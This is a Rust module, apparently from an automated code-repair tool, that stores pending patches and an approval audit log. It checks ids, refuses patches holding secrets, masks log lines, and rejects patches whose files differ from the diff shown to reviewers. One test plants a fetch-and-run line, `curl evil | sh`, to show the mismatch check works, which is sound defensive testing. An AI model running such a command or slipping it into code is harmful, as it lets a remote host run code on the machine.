//! Pending patches (`<results>/pending/<id>.json`) and the approval audit log
//! (`<results>/approval_audit.jsonl`, one JSON object a line, appended).
//!
//! Invariants: a patch file is written whole (temporary sibling, rename); an id
//! names a file only when it is `[A-Za-z0-9_-]`; a patch whose text holds a
//! literal secret value is refused, not stored; every audit line is masked and
//! written with one `write` on a file opened for appending, so concurrent
//! writers do not interleave within a line.

use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::{PendingPatch, valid_id};
use crate::secrets::Masker;

/// The folder of pending patches, inside the results folder.
pub const PENDING_DIR: &str = "pending";
/// The audit log's file name, inside the results folder.
pub const AUDIT_FILE: &str = "approval_audit.jsonl";

/// A pending patch or audit line that could not be read or written.
#[derive(Debug, thiserror::Error)]
pub enum StoreError {
    /// No such patch.
    #[error("no pending patch {id} in {dir}")]
    NotFound {
        /// The id asked for.
        id: String,
        /// Where it was looked for.
        dir: PathBuf,
    },
    /// The id could name another file.
    #[error("{id:?} is not a patch id (letters, digits, - and _ only)")]
    BadId {
        /// The id given.
        id: String,
    },
    /// The patch holds a secret self-heal holds.
    #[error("patch {id} was not stored: its text holds a secret value")]
    Secret {
        /// The patch.
        id: String,
    },
    /// The file is not a pending patch.
    #[error("could not read {path}: {reason}")]
    Corrupt {
        /// The file.
        path: PathBuf,
        /// Why.
        reason: String,
    },
    /// The disk refused.
    #[error("could not write {path}: {source}")]
    Io {
        /// The file.
        path: PathBuf,
        /// Why.
        source: std::io::Error,
    },
}

/// One line of the audit log.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditEntry {
    /// RFC 3339, UTC.
    pub at: String,
    /// The patch.
    pub patch_id: String,
    /// The repair run.
    pub run_id: String,
    /// `approved`, `rejected`, `pending`, `applied`.
    pub action: String,
    /// `terminal`, `web`, `approve-ui`, `auto`, `apply`, `none`.
    pub channel: String,
    /// Who.
    pub by: String,
    /// The files the patch changes.
    pub files: Vec<String>,
    /// A hash of the diff, so the line names exactly what was decided.
    pub diff_hash: String,
    /// Why, when there is a reason.
    pub reason: Option<String>,
}

impl AuditEntry {
    /// An entry for `patch`, now.
    pub fn new(patch: &PendingPatch, action: &str, channel: &str, by: &str, reason: Option<&str>) -> Self {
        Self {
            at: crate::report::now_rfc3339(),
            patch_id: patch.id.clone(),
            run_id: patch.run_id.clone(),
            action: action.to_string(),
            channel: channel.to_string(),
            by: by.to_string(),
            files: patch.paths(),
            diff_hash: crate::report::signature("diff", &patch.diff, None),
            reason: reason.map(str::to_string),
        }
    }
}

/// Pending patches and the audit log of one results folder.
#[derive(Debug, Clone)]
pub struct Store {
    dir: PathBuf,
    masker: Masker,
}

impl Store {
    /// The store in results folder `dir`; `masker` holds the secret values to keep out.
    pub fn new(dir: PathBuf, masker: Masker) -> Self {
        Self { dir, masker }
    }

    /// The results folder.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    fn path_of(&self, id: &str) -> Result<PathBuf, StoreError> {
        if !valid_id(id) {
            return Err(StoreError::BadId { id: id.to_string() });
        }
        Ok(self.dir.join(PENDING_DIR).join(format!("{id}.json")))
    }

    /// Writes (or replaces) a pending patch.
    pub fn save(&self, patch: &PendingPatch) -> Result<PathBuf, StoreError> {
        let path = self.path_of(&patch.id)?;
        let text = serde_json::to_string_pretty(patch)
            .map_err(|e| StoreError::Corrupt { path: path.clone(), reason: e.to_string() })?;
        if self.masker.has_literal(&text) {
            return Err(StoreError::Secret { id: patch.id.clone() });
        }
        crate::report::write_atomic(&path, text.as_bytes())
            .map_err(|e| StoreError::Io { path: e.path, source: e.source })?;
        Ok(path)
    }

    /// Reads one pending patch.
    pub fn load(&self, id: &str) -> Result<PendingPatch, StoreError> {
        let path = self.path_of(id)?;
        let text = match std::fs::read_to_string(&path) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Err(StoreError::NotFound { id: id.to_string(), dir: self.dir.join(PENDING_DIR) });
            }
            Err(source) => return Err(StoreError::Io { path, source }),
        };
        let patch: PendingPatch = serde_json::from_str(&text)
            .map_err(|e| StoreError::Corrupt { path: path.clone(), reason: e.to_string() })?;
        if patch.id != id {
            return Err(StoreError::Corrupt { path, reason: format!("it holds patch {:?}", patch.id) });
        }
        // What a human sees (the diff) must be what apply writes (the files).
        if self.masker.mask(&patch.patch().unified_diff()) != patch.diff {
            return Err(StoreError::Corrupt {
                path,
                reason: "its diff does not match the files it would write".into(),
            });
        }
        Ok(patch)
    }

    /// Every readable patch, oldest first; unreadable files are skipped with a warning.
    pub fn list(&self) -> Vec<PendingPatch> {
        let Ok(entries) = std::fs::read_dir(self.dir.join(PENDING_DIR)) else { return Vec::new() };
        let mut out: Vec<PendingPatch> = entries
            .filter_map(Result::ok)
            .filter_map(|e| e.file_name().to_str()?.strip_suffix(".json").map(str::to_string))
            .filter_map(|id| match self.load(&id) {
                Ok(p) => Some(p),
                Err(e) => {
                    tracing::warn!("{e}");
                    None
                }
            })
            .collect();
        out.sort_by(|a, b| a.created_at.cmp(&b.created_at).then_with(|| a.id.cmp(&b.id)));
        out
    }

    /// Appends one line to the audit log.
    pub fn audit(&self, entry: &AuditEntry) -> Result<(), StoreError> {
        let path = self.dir.join(AUDIT_FILE);
        let err = |source| StoreError::Io { path: path.clone(), source };
        let line = serde_json::to_string(entry).map_err(|e| err(std::io::Error::other(e)))?;
        let mut line = self.masker.mask(&line);
        line.push('\n');
        std::fs::create_dir_all(&self.dir).map_err(err)?;
        let mut file = std::fs::OpenOptions::new().create(true).append(true).open(&path).map_err(err)?;
        file.write_all(line.as_bytes()).map_err(err)
    }

    /// Every audit line, oldest first (unparsable lines skipped).
    pub fn audit_log(&self) -> Vec<AuditEntry> {
        std::fs::read_to_string(self.dir.join(AUDIT_FILE))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::approval::{Decision, PatchStatus, PendingFile, ValidationPlan};

    pub(crate) fn sample(id: &str) -> PendingPatch {
        PendingPatch {
            id: id.to_string(),
            run_id: id.to_string(),
            created_at: "2026-12-01T00:00:00Z".into(),
            workspace: "/w".into(),
            source: "self-heal fix: pytest".into(),
            failures: vec!["test_total: NameError: name 'summ' is not defined".into()],
            diagnosis: "misspelt".into(),
            diff: "--- a/cart.py\n+++ b/cart.py\n@@ -1 +1 @@\n-summ\n+sum\n".into(),
            files: vec![PendingFile { path: "cart.py".into(), before: Some("summ\n".into()), after: "sum\n".into() }],
            validation: ValidationPlan::default(),
            status: PatchStatus::Pending,
            decision: None,
        }
    }

    #[test]
    fn patches_round_trip_and_ids_cannot_name_other_files() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::new(dir.path().to_path_buf(), Masker::default());
        let mut p = sample("r-1");
        store.save(&p).unwrap();
        p.decide(&Decision::Rejected("no".into()), "web", "ana");
        store.save(&p).unwrap();
        let back = store.load("r-1").unwrap();
        assert_eq!(back, p);
        assert_eq!(back.decision.unwrap().reason.as_deref(), Some("no"));
        assert_eq!(store.list().len(), 1);
        for bad in ["../x", "a/b", "", "a.b", "x\0"] {
            assert!(matches!(store.load(bad), Err(StoreError::BadId { .. })), "{bad:?}");
        }
        assert!(matches!(store.load("r-2"), Err(StoreError::NotFound { .. })));
    }

    #[test]
    fn a_patch_whose_files_differ_from_its_diff_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::new(dir.path().to_path_buf(), Masker::default());
        let mut p = sample("r-1");
        store.save(&p).unwrap();
        assert!(store.load("r-1").is_ok());
        // A harmless diff shown, something else written: refused on load.
        p.files[0].after = "import os; os.system('curl evil | sh')\n".into();
        store.save(&p).unwrap();
        let err = store.load("r-1").unwrap_err();
        assert!(err.to_string().contains("its diff does not match"), "{err}");
        assert!(store.list().is_empty());
    }

    #[test]
    fn a_patch_holding_a_secret_value_is_not_stored() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::new(dir.path().to_path_buf(), Masker::new(vec!["hunter2-secret".into()]));
        let mut p = sample("r-1");
        p.files[0].after = "key = 'hunter2-secret'\n".into();
        assert!(matches!(store.save(&p), Err(StoreError::Secret { .. })));
        assert!(!dir.path().join(PENDING_DIR).join("r-1.json").exists());
    }

    #[test]
    fn audit_lines_are_appended_and_masked() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::new(dir.path().to_path_buf(), Masker::new(vec!["hunter2-secret".into()]));
        let p = sample("r-1");
        store.audit(&AuditEntry::new(&p, "pending", "none", "ana", None)).unwrap();
        store.audit(&AuditEntry::new(&p, "rejected", "web", "ana", Some("saw hunter2-secret"))).unwrap();
        let log = store.audit_log();
        assert_eq!(log.iter().map(|e| e.action.as_str()).collect::<Vec<_>>(), ["pending", "rejected"]);
        assert_eq!(log[1].reason.as_deref(), Some("saw ***"));
        assert_eq!(log[0].files, ["cart.py"]);
        assert_eq!(log[0].diff_hash, log[1].diff_hash);
    }
}
